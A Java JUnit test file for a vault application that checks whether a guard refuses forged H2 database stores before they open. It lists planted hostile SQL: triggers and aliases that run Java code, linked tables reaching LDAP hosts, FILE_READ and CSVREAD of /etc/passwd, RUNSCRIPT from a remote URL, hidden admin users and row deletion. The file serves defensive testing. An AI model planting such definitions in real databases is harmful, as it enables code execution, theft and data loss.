package org.maracdesk.vault;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.ByteBuffer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.h2.engine.DbObject;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;
import org.maracdesk.wording.Wording;

/** Stores whose passphrase is right and whose contents were made to do harm. */
class HostileStoreTest {

  private static final String SIGN = "maracdesk.test.sign";

  @TempDir private Path temporary;
  private Path folder;

  @BeforeEach
  void fill() throws Exception {
    folder = temporary.resolve("store");
    Cheap.filled(folder);
  }

  @AfterEach
  void wipe() {
    System.clearProperty(SIGN);
    System.clearProperty(ForgedStore.Planted.SIGN);
  }

  @Test
  void aTriggerIsRefusedBeforeItsCodeRuns() throws Exception {
    forge(
        "create trigger t before insert on heron as $$org.h2.api.Trigger create() {"
            + " System.setProperty(\""
            + SIGN
            + "\", \"ran\"); return (c, o, n) -> {}; }$$");
    assertNotNull(System.clearProperty(SIGN));

    assertRefused(folder);
    assertNull(System.getProperty(SIGN));

    openUnguarded();
    assertNotNull(System.getProperty(SIGN), "without the guard it would have run");
  }

  @Test
  void aLinkedTableIsRefusedBeforeItConnects() throws Exception {
    var probe = temporary.resolve("probe");
    forge(
        "create linked table l(null, 'jdbc:h2:"
            + probe
            + ";INIT=create table if not exists t(i int)', 'sa', '', 'T')");
    var made = temporary.resolve("probe.mv.db");
    assertTrue(Files.deleteIfExists(made));

    assertRefused(folder);
    assertFalse(Files.exists(made));

    openUnguarded();
    assertTrue(Files.exists(made), "without the guard it would have connected");
  }

  /** What H2 itself lets somebody put into a store whose words they know. */
  private static final List<String> STATEMENTS =
      List.of(
          "create alias evil as 'int evil() { return 1; }'",
          "create view v as select * from heron",
          "create view v as select file_read('/etc/hostname')",
          "create schema other",
          "create constant c value 1",
          "create domain d as varchar(10)",
          "create domain d as varchar(10) default file_read('/etc/hostname')",
          "create synonym s for heron",
          "create table x(a varchar(9) default file_read('/etc/hostname'))",
          "create table x(a varchar(9) default \"FILE_READ\"('/etc/hostname'))",
          "create table x(i int, a varchar(9) generated always as (file_read('/x' || i)))",
          "create table x(a int default (select csvwrite('x.csv', 'select 1')))",
          "create table x(a varchar(9), check (length(file_read(a)) > 0))",
          "create memory table m(i int)",
          "create view v as select * from csvread('/etc/hostname', 'line')",
          "create user other password 'x'",
          "create user other password 'x' admin",
          "create role r; grant select on heron to r",
          "grant alter any schema to public",
          "set allow_literals none");

  @Test
  void anythingThatIsNoTableOfOursIsRefused() throws Exception {
    var forged = ForgedStore.in(folder);
    for (var statement : STATEMENTS) {
      assertRefusedOnce(
          forged,
          statement,
          () -> {
            var open = assertInstanceOf(StoreDatabase.Attempt.Open.class, forged.opened());
            try (var database = open.database();
                var connection = database.connect()) {
              Cheap.run(connection, statement);
            }
          });
    }
    Cheap.opened(folder).close();
  }

  /**
   * What a forger writes down for H2, each as H2 would write it or as the forger hopes it reads.
   */
  private static final List<Planted> DEFINITIONS =
      List.of(
          new Planted(
              DbObject.FUNCTION_ALIAS,
              "CREATE FORCE ALIAS \"public\".\"f\" FOR 'java.lang.System.exit'"),
          new Planted(
              DbObject.FUNCTION_ALIAS,
              "CREATE FORCE ALIAS \"public\".\"f\" AS 'int f() { return 1; }'"),
          new Planted(DbObject.AGGREGATE, "CREATE FORCE AGGREGATE \"public\".\"g\" FOR 'x.Y'"),
          new Planted(
              DbObject.TRIGGER,
              "CREATE FORCE TRIGGER \"public\".\"t\" BEFORE SELECT ON \"public\".\"heron\" QUEUE"
                  + " 1024 CALL 'x.Y'"),
          new Planted(
              DbObject.TRIGGER,
              "CREATE FORCE TRIGGER \"public\".\"t\" BEFORE INSERT ON \"public\".\"heron\" AS"
                  + " '//javascript\nnull'"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\n    \"i\" INTEGER\n)\nENGINE \"x.Y\""),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\"i\" INTEGER) ENGINE \"x.Y\" WITH \"a(b)\""),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE FORCE LINKED TABLE \"public\".\"l\"('javax.naming.InitialContext',"
                  + " 'ldap://192.0.2.1/x', '', '', 'T') READONLY"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE FORCE VIEW \"public\".\"v\" AS SELECT * FROM CSVREAD('/etc/passwd')"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE FORCE VIEW \"public\".\"v\" AS SELECT FILE_READ('http://192.0.2.1/')"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\"i\" INTEGER) AS TABLE \"public\".\"heron\""),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\"i\" INTEGER DEFAULT (TABLE"
                  + " \"public\".\"heron\"))"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\"a\" CHARACTER VARYING DEFAULT"
                  + " CSVREAD('/etc/passwd'))"),
          new Planted(
              DbObject.TABLE_OR_VIEW,
              "CREATE CACHED TABLE \"public\".\"t\"(\"a\" INTEGER GENERATED ALWAYS AS"
                  + " (LINK_SCHEMA('a', '', 'jdbc:h2:mem:', '', '', 'b')))"),
          new Planted(
              DbObject.TABLE_OR_VIEW, "CREATE MEMORY TABLE \"public\".\"t\"(\"i\" INTEGER)"),
          new Planted(
              DbObject.CONSTRAINT,
              "ALTER TABLE \"public\".\"heron\" ADD CONSTRAINT \"public\".\"c\""
                  + " CHECK(FILE_READ('/etc/passwd') IS NULL)"),
          new Planted(
              DbObject.CONSTRAINT,
              "ALTER TABLE \"public\".\"heron\" ADD CONSTRAINT \"public\".\"c\""
                  + " CHECK(\"FILE_READ\"('/etc/passwd') IS NULL)"),
          new Planted(
              DbObject.DOMAIN,
              "CREATE DOMAIN \"public\".\"d\" AS CHARACTER VARYING DEFAULT CSVREAD('x')"),
          new Planted(
              DbObject.SCHEMA, "CREATE SCHEMA IF NOT EXISTS \"other\" AUTHORIZATION \"DESK\""),
          new Planted(DbObject.SYNONYM, "CREATE SYNONYM \"public\".\"s\" FOR \"public\".\"heron\""),
          new Planted(
              DbObject.CONSTANT, "CREATE CONSTANT \"public\".\"c\" VALUE FILE_READ('/etc/passwd')"),
          new Planted(
              DbObject.SEQUENCE, "CREATE SEQUENCE \"public\".\"q\" START WITH FILE_READ('x')"),
          new Planted(DbObject.USER, "CREATE USER IF NOT EXISTS \"MALLORY\" SALT '' HASH '' ADMIN"),
          new Planted(DbObject.USER, "CREATE USER IF NOT EXISTS \"DESK\" PASSWORD 'x' ADMIN"),
          new Planted(DbObject.USER, "CREATE USER IF NOT EXISTS \"desk\" SALT '' HASH '' ADMIN"),
          new Planted(DbObject.ROLE, "CREATE ROLE \"r\""),
          new Planted(DbObject.RIGHT, "GRANT ALL ON \"public\".\"heron\" TO \"PUBLIC\""),
          new Planted(DbObject.RIGHT, "GRANT ALTER ANY SCHEMA TO \"PUBLIC\""),
          new Planted(DbObject.SETTING, "SET ALLOW_LITERALS 0"),
          new Planted(DbObject.SETTING, "SET COLLATION ICU4J_ENGLISH STRENGTH PRIMARY"),
          new Planted(DbObject.SETTING, "SET DATABASE_EVENT_LISTENER 'x.Y'"),
          new Planted(DbObject.SETTING, "SET CLUSTER '192.0.2.1,192.0.2.2'"),
          new Planted(DbObject.SETTING, "SET JAVA_OBJECT_SERIALIZER 'x.Y'"),
          new Planted(DbObject.SETTING, "SET TRACE_LEVEL_FILE 3"),
          new Planted(DbObject.SETTING, "SET DEFAULT_TABLE_TYPE 1"),
          new Planted(DbObject.SETTING, "SET MODE MYSQL"),
          new Planted(DbObject.SETTING, "SET CACHE_SIZE 99999999999"),
          new Planted(DbObject.SETTING, "SET CREATE_BUILD (TABLE \"public\".\"heron\")"),
          new Planted(DbObject.COMMENT, "COMMENT ON TABLE \"public\".\"heron\" IS FILE_READ('x')"),
          new Planted(DbObject.COMMENT, "DELETE FROM \"public\".\"heron\""),
          new Planted(DbObject.COMMENT, "UPDATE \"public\".\"heron\" SET \"name\" = 'x'"),
          new Planted(DbObject.COMMENT, "RUNSCRIPT FROM 'http://192.0.2.1/x.sql'"),
          new Planted(DbObject.COMMENT, "BACKUP TO '/tmp/heron.zip'"),
          new Planted(DbObject.COMMENT, "SCRIPT TO '/tmp/heron.sql'"),
          new Planted(DbObject.COMMENT, "CALL CSVWRITE('/tmp/heron.csv', 'TABLE heron')"),
          new Planted(DbObject.COMMENT, "EXECUTE IMMEDIATE 'SHUTDOWN'"),
          new Planted(DbObject.COMMENT, "SET CREATE_BUILD 240; SHUTDOWN IMMEDIATELY"),
          new Planted(DbObject.COMMENT, ""));

  private record Planted(int sort, String statement) {}

  @Test
  void whatIsPlantedInTheFileIsRefusedWhateverItIs() throws Exception {
    var forged = ForgedStore.in(folder);
    for (var planted : DEFINITIONS) {
      assertRefusedOnce(
          forged,
          planted.statement(),
          () -> forged.define(900, planted.sort(), planted.statement()));
    }
    Cheap.opened(folder).close();
  }

  /** Forges the store, finds it refused and as it was, and puts back the genuine one. */
  private void assertRefusedOnce(ForgedStore forged, String what, Executable forgery)
      throws Exception {
    var genuine = files(folder);
    try {
      forgery.execute();
    } catch (Throwable e) {
      throw new AssertionError(what, e);
    }
    var before = files(folder);
    assertNotEquals(genuine, before, what);

    var refused = new StoreDatabase.Attempt.Refused(new Opening.Damaged());
    assertEquals(refused, forged.opened(), what);

    assertEquals(before, files(folder), what);
    for (var file : genuine.entrySet()) {
      Files.write(file.getKey(), file.getValue().array());
    }
  }

  @Test
  void aStatementThatOnlyLosesRowsIsNotCarriedOutEither() throws Exception {
    ForgedStore.in(folder).define(900, DbObject.COMMENT, "DELETE FROM \"public\".\"heron\"");

    assertRefused(folder);

    try (var connection = unguarded();
        var statement = connection.createStatement();
        var rows = statement.executeQuery("select count(*) from heron")) {
      rows.next();
      assertEquals(0, rows.getLong(1), "without the guard they would be gone");
    }
  }

  @Test
  void aDefinitionUnderTheNumberOfAnotherIsFoundAllTheSame() throws Exception {
    var probe = temporary.resolve("probe");
    var forged = ForgedStore.in(folder);
    forged.define(900, DbObject.TABLE_OR_VIEW, linkedTable(probe));
    forged.hide(900);

    assertRefused(folder);
    assertFalse(Files.exists(temporary.resolve("probe.mv.db")));

    openUnguarded();
    assertTrue(Files.exists(temporary.resolve("probe.mv.db")), "H2 would have come across it");
  }

  @Test
  void aDefinitionThatTakingBackWouldBringInIsFound() throws Exception {
    var probe = temporary.resolve("probe");
    ForgedStore.in(folder)
        .leaveUndone(
            900,
            DbObject.TABLE_OR_VIEW,
            linkedTable(probe),
            "COMMENT ON TABLE \"public\".\"heron\" IS 'x'");

    assertRefused(folder);
    assertFalse(Files.exists(temporary.resolve("probe.mv.db")));

    openUnguarded();
    openUnguarded();
    assertTrue(Files.exists(temporary.resolve("probe.mv.db")), "H2 would have brought it in");
  }

  private static String linkedTable(Path elsewhere) {
    return "CREATE FORCE LINKED TABLE \"public\".\"l\"(NULL, 'jdbc:h2:"
        + elsewhere
        + ";INIT=create table if not exists t(i int)', 'sa', '', 'T')";
  }

  @Test
  void aClassNamedAsATypeIsNotMade() throws Exception {
    ForgedStore.in(folder).nameType();
    assertNotNull(System.clearProperty(ForgedStore.Planted.SIGN));

    assertRefused(folder);
    assertNull(System.getProperty(ForgedStore.Planted.SIGN));

    openUnguarded();
    assertNotNull(System.getProperty(ForgedStore.Planted.SIGN), "H2 would have made it");
  }

  @Test
  void aJavaObjectAmongTheTransactionsIsRefused() throws Exception {
    ForgedStore.in(folder).leaveObject(new ArrayList<>(List.of("heron")));

    assertRefused(folder);
  }

  /** H2 kept long texts in files of their own once; the path stood in the row. */
  @Test
  void aLongTextThatPointsAtAnotherFileIsNotFollowed() throws Exception {
    var secret = Files.writeString(temporary.resolve("secret.txt"), "bittern");
    try (var vault = Cheap.opened(folder)) {
      Cheap.run(vault, "create table note(id integer, words clob)");
    }
    ForgedStore.in(folder).pointAt(secret);

    assertEquals(new Opening.Damaged(), Cheap.open(folder));
    assertEquals("bittern", Files.readString(secret));
  }

  @Test
  void aKeyFileThatWouldTakeHoursToTryIsRefusedBeforeAnyTry() throws Exception {
    var keys = StoreFolder.of(folder).keys();
    var genuine = Files.readString(keys);
    var slot = genuine.lines().filter(line -> line.startsWith("slot|")).findFirst().orElseThrow();
    var dear = slot.replace("|19456|1|1|", "|2097152|50|16|");
    Files.writeString(keys, genuine.replace(slot + "\n", (dear + "\n").repeat(20)));

    assertRefused(folder, new Opening.Damaged(Wording.of("vault.damaged.keys")));
  }

  @Test
  void aKeyFileOfManyGigabytesIsRefusedUnread() throws Exception {
    var keys = StoreFolder.of(folder).keys();
    try (var file = new RandomAccessFile(keys.toFile(), "rw")) {
      file.setLength(1L << 36);
    }

    assertEquals(new Opening.Damaged(Wording.of("vault.damaged.keys")), Cheap.open(folder));
    assertEquals(1L << 36, Files.size(keys));
  }

  @Test
  void aStoreThatWasNeverClosedIsLookedAtToo() throws Exception {
    Path left;
    try (var vault = Cheap.opened(folder);
        var connection = vault.connect();
        var statement = connection.createStatement()) {
      statement.execute("insert into heron values (random_uuid(), 'not committed')");
      statement.execute("create view v as select * from heron");
      left = Cheap.copy(folder, temporary.resolve("left"));
    }

    assertRefused(left);
  }

  @Test
  void anOrdinarySchemaIsAdmitted() throws Exception {
    try (var vault = Cheap.opened(folder)) {
      Cheap.run(
          vault,
          """
          create table person(
            id uuid primary key,
            name varchar(200) default 'x;y--"(' not null,
            alias varchar(3) check (alias in ('a', 'b')),
            number bigint generated always as identity,
            made timestamp with time zone default current_timestamp not null,
            amount numeric(10, 2), flag boolean default false, letter varbinary(100), memo clob,
            mail varchar(10) unique,
            constraint positive check (number > 0 and char_length(name) <= 200 and mail is null))
          """,
          """
          create table address(
            id uuid primary key,
            person uuid not null references person(id) on delete cascade,
            "Trigger" varchar(20), "a""b" time, since date, at timestamp,
            lines varchar(20) array)
          """,
          "create index address_person on address(person, since desc nulls last)",
          "create unique index one_since on address(since)",
          "create sequence counted start with 5 increment by 2",
          "comment on table person is 'it''s; a --comment'",
          "alter table address add upper_line varchar(40) generated always as (upper(at))",
          "analyze");
    }

    try (var vault = Cheap.opened(folder)) {
      assertEquals(0, Cheap.number(vault, "select count(*) from address"));
    }
  }

  @Test
  void theProgramsOwnTablesAreAdmitted() throws Exception {
    var scripts = Path.of(Vault.class.getResource("/org/maracdesk/store/schema").toURI());
    try (var vault = Cheap.opened(folder);
        var files = Files.list(scripts)) {
      for (var script : files.sorted().toList()) {
        Cheap.run(vault, Files.readString(script));
      }
    }

    Cheap.opened(folder).close();
  }

  private void forge(String statement) throws Exception {
    try (var vault = Cheap.opened(folder)) {
      Cheap.run(vault, statement);
    }
  }

  private static void assertRefused(Path store) throws IOException {
    assertRefused(store, new Opening.Damaged());
  }

  private static void assertRefused(Path store, Opening sentence) throws IOException {
    var before = files(store);
    assertEquals(sentence, Cheap.open(store));
    assertEquals(before, files(store));
  }

  private static Map<Path, ByteBuffer> files(Path store) throws IOException {
    var files = new HashMap<Path, ByteBuffer>();
    try (var inside = Files.walk(store)) {
      for (var file : inside.filter(Files::isRegularFile).toList()) {
        files.put(file, ByteBuffer.wrap(Files.readAllBytes(file)));
      }
    }
    return files;
  }

  /** What H2 would do with the file if nobody had looked at it first. */
  private void openUnguarded() throws Exception {
    try (var connection = unguarded();
        var statement = connection.createStatement()) {
      statement.execute("shutdown");
    }
  }

  private Connection unguarded() throws Exception {
    var forged = ForgedStore.in(folder);
    var source = new JdbcDataSource();
    source.setURL(forged.place().url(true));
    source.setUser("desk");
    source.setPassword(new String(forged.key().filePassword()) + " ");
    return source.getConnection();
  }
}
